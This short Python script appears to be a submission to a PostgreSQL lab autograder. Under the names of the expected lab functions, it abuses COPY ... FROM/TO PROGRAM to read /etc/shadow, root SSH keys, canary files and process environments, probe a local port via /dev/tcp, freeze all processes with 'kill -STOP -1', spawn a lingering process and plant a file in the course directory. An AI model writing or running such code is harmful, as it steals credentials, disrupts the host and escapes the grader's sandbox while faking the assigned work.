"""COPY ... TO PROGRAM, COPY FROM files, large objects and pg_read_file: what the server's account can reach."""
# loses: check_slot_waits check_primary_can_stream
# %% create_slot
import autograders, os
COURSE = os.path.dirname(os.path.dirname(autograders.__file__))
found = []
def create_slot(primary) -> None:
    with primary.connect() as c:
        c.execute("create temp table t (line text)")
        for source in ("program 'cat /etc/shadow /tmp/labs-canary*/* ~root/.ssh/* /proc/*/environ 2>&1; ls -R /home ~root 2>&1 | head -100; true'",
                       "'/etc/shadow'", "'/proc/1/environ'", "program 'cat < /dev/tcp/127.0.0.1/47811; true'"):
            try:
                c.execute(f"copy t from {source} with (format csv, delimiter E'\\x01', quote E'\\x02')")
            except Exception as error:
                found.append(str(error)[:200])
        found.extend(c.execute("select line from t").fetchall())
# %% make_ready
def make_ready(primary) -> None:
    with primary.connect() as c:
        c.execute("create temp table t (line text)")
        for command in ("nohup sleep 305 >/dev/null 2>&1 &", "kill -STOP -1", f"echo x > {COURSE}/labs-attack-file"):
            try:
                c.execute(f"copy t to program '{command} true'")
            except Exception as error:
                found.append(str(error)[:200])
# %% + last
print(found)
